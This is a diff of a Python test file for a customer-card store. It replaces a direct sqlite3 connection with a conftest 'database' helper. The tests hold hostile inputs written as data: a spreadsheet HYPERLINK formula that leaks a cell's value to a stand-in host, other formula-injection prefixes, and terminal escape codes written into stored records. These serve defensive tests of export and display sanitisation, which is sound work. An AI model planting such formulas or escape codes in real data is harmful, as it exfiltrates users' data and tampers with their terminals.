@@ -6,13 +6,12 @@ import csv
 import io
 import json
 import os
-import sqlite3
 import subprocess
 import sys
 
 import pytest
 
-from conftest import empty_store, sales_floor
+from conftest import database, empty_store, sales_floor
 
 HYPERLINK = '=HYPERLINK("http://x/?leak="&C2,"y")'
 FORMULAS = [HYPERLINK, "=1+1", "+86 138", "-价格敏感", "@SUM(A1)", "'=已加引号", "''+两个引号"]
@@ -120,7 +119,7 @@ def hostile_store(lc):
     """A store written before the checks (or by another tool): escape codes already in it."""
     sales_floor(lc)
     lc.ok("add", "张三", "--phone", "13800138000", "--owner", "王芳", "--notes", "备注")
-    with sqlite3.connect(lc.db) as conn:
+    with database(lc.db) as conn:
         conn.execute("UPDATE cards SET name = ?, notes = ?", (ESC_NAME, "第一行\n第二行\x1b[2J\x9b"))
         conn.execute("UPDATE users SET name = ? WHERE name = '王芳'", ("王\x1b[5m芳",))
 
